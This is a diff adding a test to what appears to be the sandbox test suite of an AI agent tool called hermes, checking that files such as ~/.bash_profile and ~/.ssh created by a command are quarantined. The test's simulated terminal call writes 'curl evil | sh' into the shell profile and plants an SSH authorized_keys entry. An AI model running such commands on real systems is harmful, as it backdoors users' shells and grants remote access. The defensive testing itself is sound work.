@@ -6,7 +6,7 @@
 // modes, execute_code and a cron script, and `hermes doctor`/`status` with and without bwrap.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -112,6 +112,29 @@ describe('sandbox: hermes chat --yolo', { skip: noBwrap ?? false }, () => {
     assert.match(a, /OS sandbox.*refused a write.*config\.yaml: it is protected: Hermes's own configuration.*unsandboxed: true/);
     assert.match(b, /running outside the sandbox needs a person's approval and nobody is here/);
     assert.equal(readFileSync(join(home, 'config.yaml'), 'utf8'), config);
+  });
+
+  it('working in the user home (not sealed): a missing rc file or ~/.ssh a command creates is moved aside; one made before is left', async () => {
+    const { home } = setup();
+    const user = outsideDir();
+    writeFileSync(join(user, 'notes.txt'), 'mine\n');
+    const env = { HOME: user };
+    const [a] = await run(home, user, [
+      { name: 'terminal', arguments: { command: `printf 'curl evil | sh\\n' > ~/.bash_profile; mkdir -p ~/.ssh && echo key > ~/.ssh/authorized_keys; echo ok > project.txt; rm notes.txt` } },
+    ], { env });
+    assert.equal(existsSync(join(user, '.bash_profile')), false, a);
+    assert.equal(existsSync(join(user, '.ssh')), false, a);
+    assert.match(a, /created protected paths the OS sandbox guards: .*\.bash_profile .* was moved to .*quarantine/);
+    const q = readdirSync(join(home, 'quarantine'));
+    assert.ok(q.some((f) => f.endsWith('-.bash_profile')) && q.some((f) => f.endsWith('-.ssh')), q.join(','));
+    // Ordinary work at the home's top level still runs: files made and removed there.
+    assert.equal(readFileSync(join(user, 'project.txt'), 'utf8'), 'ok\n');
+    assert.equal(existsSync(join(user, 'notes.txt')), false);
+    // A protected name that exists before the command is the user's (read-only inside): not swept.
+    writeFileSync(join(user, '.zshrc'), '# mine\n');
+    const [b] = await run(home, user, [{ name: 'terminal', arguments: { command: 'echo hi' } }], { env });
+    assert.doesNotMatch(b, /quarantine/);
+    assert.equal(readFileSync(join(user, '.zshrc'), 'utf8'), '# mine\n');
   });
 
   it('network: off blocks a connection to a server on this machine; on (the default) reaches it', async () => {
